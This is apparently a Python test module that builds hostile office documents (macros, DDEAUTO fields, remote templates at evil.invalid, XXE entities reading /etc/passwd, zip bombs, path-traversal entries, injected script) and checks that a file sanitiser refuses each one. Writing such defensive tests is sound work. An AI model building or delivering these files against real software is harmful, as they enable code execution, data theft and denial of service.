"""Hostile office documents."""

import struct
from collections.abc import Callable

from tests.attacks.hostile import Make, Refused
from tests.attacks.samples import W, docx, docx_parts, odt, packed, relation, relations, types, xlsx

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
SCRIPT = b"<script>alert(document.cookie)</script>"
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
PRIME = 2_654_435_761
BOMB = 300 * 1024 * 1024


def with_part(name: str, content: bytes | str | Callable[[], str] = b"x") -> Make:
    return lambda: docx({name: content() if callable(content) else content})


def elements() -> str:
    """Half a million of them, of which each needs far more room than its four letters; not all alike."""
    return "<a>" + "".join(f"<b{number * PRIME % 2**32}/>" for number in range(500_100)) + "</a>"


def with_body(inner: str) -> Make:
    return with_part("word/document.xml", f'<w:document xmlns:w="{W}">{inner}</w:document>')


def with_relation(kind: str, target: str = "https://evil.invalid/t.dotm") -> Make:
    return with_part("word/_rels/document.xml.rels", relations(relation(kind, target)))


def bomb() -> bytes:
    """300 MB of nothing in some 300 KB."""
    return docx({"word/media/bomb.emf": bytes(BOMB)})


def many_small_bombs() -> bytes:
    return docx({f"word/media/{number}.emf": bytes(60 * 1024 * 1024) for number in range(5)})


def liar() -> bytes:
    """Its directory says that the entry has ten bytes."""
    made = bytearray(docx({"word/media/a.emf": bytes(100_000)}))
    at = made.rindex(b"PK\x01\x02")
    struct.pack_into("<I", made, at + 24, 10)
    return bytes(made)


def with_entry(name: str) -> Make:
    return lambda: packed(docx_parts() | {name: b"x"})


def doubled_entry() -> bytes:
    return packed(docx_parts() | {"word/DOCUMENT.xml": "<other/>"})


def encrypted_entry() -> bytes:
    made = bytearray(docx())
    at = made.rindex(b"PK\x01\x02")
    made[at + 8] |= 1
    return bytes(made)


def fields(*words: str) -> Make:
    """Each a field of its own; who joins their words finds others."""
    begin, end = (f'<w:fldChar w:fldCharType="{one}"/>' for one in ("begin", "end"))
    return with_body("".join(f"{begin}<w:instrText>{one}</w:instrText>{end}" for one in words))


def with_formula(formula: str) -> Make:
    return lambda: xlsx({"xl/worksheets/sheet1.xml": f"<worksheet><c><f>{formula}</f></c></worksheet>"})


def large_directory() -> bytes:
    """Five thousand entries with long names."""
    return docx({f"a{number}{'x' * 400}": b"" for number in range(4_000)})


def zip64() -> bytes:
    made = docx()
    return made[:-22] + b"PK\x06\x07" + bytes(16) + made[-22:]


def with_comment() -> bytes:
    made = docx()
    return made[:-2] + struct.pack("<H", 600) + bytes(600)


RICH = rb"{\rtf1\ansi{\object\objautlink}}"
WEB_ARCHIVE = b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n"
LAUGHS = (
    '<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><w:document'
    f' xmlns:w="{W}">&b;</w:document>'
)
FETCHES = '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><w>&a;</w>'
DRAW = 'xmlns:d="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:x="http://www.w3.org/1999/xlink"'
TEXT = 'xmlns:t="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:x="http://www.w3.org/1999/xlink"'

OFFICES = [
    Refused("macros.docx", with_part("word/vbaProject.bin", OLE), "office_acts"),
    Refused("macro_type.docx", with_part("[Content_Types].xml", types(MACRO)), "office_acts"),
    Refused("activex.docx", with_part("word/activeX/activeX1.xml", "<x/>"), "office_acts"),
    Refused("object.docx", with_part("word/embeddings/oleObject1.bin", OLE), "office_acts"),
    Refused("renamed_object.docx", with_part("word/media/image1.png", OLE), "office_acts"),
    Refused("program.docx", with_part("word/media/image1.emf", b"MZ" + bytes(90)), "office_acts"),
    Refused("template.docx", with_relation("attachedTemplate"), "office_acts"),
    Refused("remote_picture.docx", with_relation("image", "//evil.invalid/a.png"), "office_acts"),
    Refused("remote_object.docx", with_relation("oleObject"), "office_acts"),
    Refused("frame.docx", with_relation("frame"), "office_acts"),
    Refused("dde.docx", with_body("<w:instrText>DDEAUTO cmd.exe</w:instrText>"), "office_acts"),
    Refused(
        "dde_in_pieces.docx",
        with_body("<w:instrText> DD</w:instrText><w:instrText>EAUTO x</w:instrText>"),
        "office_acts",
    ),
    Refused("simple_dde.docx", with_body('<w:fldSimple w:instr="DDE x"/>'), "office_acts"),
    Refused("two_fields.docx", fields("PAGE", "DDEAUTO cmd.exe"), "office_acts"),
    Refused("link_field.docx", fields("PAGE", " link Excel.Sheet x"), "office_acts"),
    Refused("simple_link.docx", with_body('<w:fldSimple w:instr=" LINK x"/>'), "office_acts"),
    Refused("picture_field.docx", fields('INCLUDEPICTURE "https://evil.invalid/a.png"'), "office_acts"),
    Refused("text_field.docx", fields('IncludeText "//evil.invalid/a"'), "office_acts"),
    Refused("import_field.docx", fields('IMPORT "//evil.invalid/a"'), "office_acts"),
    Refused("database_field.docx", fields("DATABASE \\d x"), "office_acts"),
    Refused("rd_field.docx", fields("RD //evil.invalid/a"), "office_acts"),
    Refused("rich.docx", with_part("word/afchunk.rtf", RICH), "office_acts"),
    Refused("rich_picture.docx", with_part("word/media/image1.png", RICH), "office_acts"),
    Refused("web_archive.docx", with_part("word/afchunk.mht", WEB_ARCHIVE), "office_acts"),
    Refused("alt_chunk.docx", with_body('<w:altChunk r="1"/>'), "office_acts"),
    Refused(
        "chunk.docx",
        with_part("word/_rels/document.xml.rels", relations(relation("aFChunk", "a.xml", "Internal"))),
        "office_acts",
    ),
    Refused("connections.xlsx", lambda: xlsx({"xl/connections.xml": "<x/>"}), "office_acts"),
    Refused("query.xlsx", lambda: xlsx({"xl/queryTables/queryTable1.xml": "<x/>"}), "office_acts"),
    Refused("connection.xlsx", lambda: xlsx({"xl/a.xml": "<c><connection/></c>"}), "office_acts"),
    Refused("web_query.xlsx", lambda: xlsx({"xl/a.xml": "<c><webPr url='x'/></c>"}), "office_acts"),
    Refused("database.xlsx", lambda: xlsx({"xl/a.xml": "<c><dbPr/></c>"}), "office_acts"),
    Refused("service.xlsx", with_formula('_xlfn.WEBSERVICE("https://evil.invalid")'), "office_acts"),
    Refused("image.xlsx", with_formula('_xlfn.image ("https://evil.invalid")'), "office_acts"),
    Refused("rtd.xlsx", with_formula('A1+RTD("evil",,"x")'), "office_acts"),
    Refused("directory.docx", large_directory, "unpacks_too_large"),
    Refused("zip64.docx", zip64, "unpacks_too_large"),
    Refused("comment.docx", with_comment, "two_in_one"),
    Refused("by_another_name.docx", with_part("word/a.dat", "<a><ddeLink/></a>"), "office_acts"),
    Refused("in_utf16.docx", with_part("word/a.dat", "<a><ddeLink/></a>".encode("utf-16")), "office_acts"),
    Refused("elements.docx", with_part("word/a.dat", elements), "too_complicated"),
    Refused("laughs.docx", with_part("word/document.xml", LAUGHS), "office_acts"),
    Refused("entity.docx", with_part("word/settings.xml", FETCHES), "office_acts"),
    Refused("macro_sheet.xlsx", lambda: xlsx({"xl/macrosheets/sheet1.xml": "<x/>"}), "office_acts"),
    Refused("external.xlsx", lambda: xlsx({"xl/externalLinks/externalLink1.xml": "<x/>"}), "office_acts"),
    Refused("dde.xlsx", lambda: xlsx({"xl/workbook.xml": "<workbook><ddeLink/></workbook>"}), "office_acts"),
    Refused("basic.odt", lambda: odt({"Basic/Standard/Module1.xml": "<x/>"}), "office_acts"),
    Refused("script.odt", lambda: odt({"Scripts/python/evil.py": b"x"}), "office_acts"),
    Refused("event.odt", lambda: odt({"content.xml": "<c><event-listener/></c>"}), "office_acts"),
    Refused(
        "remote.odt",
        lambda: odt({"content.xml": f'<c {DRAW}><d:image x:href="https://evil.invalid/a.png"/></c>'}),
        "office_acts",
    ),
    Refused(
        "section.odt",
        lambda: odt({"content.xml": f'<c {TEXT}><t:section-source x:href="file:///etc/passwd"/></c>'}),
        "office_acts",
    ),
    Refused("sheet.odt", lambda: odt(kind="spreadsheet"), "not_taken"),
    Refused("bomb.docx", bomb, "unpacks_too_large"),
    Refused("bombs.docx", many_small_bombs, "unpacks_too_large"),
    Refused("entries.docx", lambda: docx({f"a{n}": b"" for n in range(5001)}), "unpacks_too_large"),
    Refused("liar.docx", liar, "damaged"),
    Refused("up.docx", with_entry("../../etc/cron.d/evil"), "two_in_one"),
    Refused("root.docx", with_entry("/etc/passwd"), "two_in_one"),
    Refused("drive.docx", with_entry("C:evil"), "two_in_one"),
    Refused("doubled.docx", doubled_entry, "two_in_one"),
    Refused("before.docx", lambda: b"PK\x03\x04" + bytes(60) + docx(), "two_in_one"),
    Refused("after.docx", lambda: docx() + b"<html>" + SCRIPT, "two_in_one"),
    Refused("locked.docx", encrypted_entry, "office_locked"),
    Refused("cut.docx", lambda: docx()[:-30], "damaged"),
]
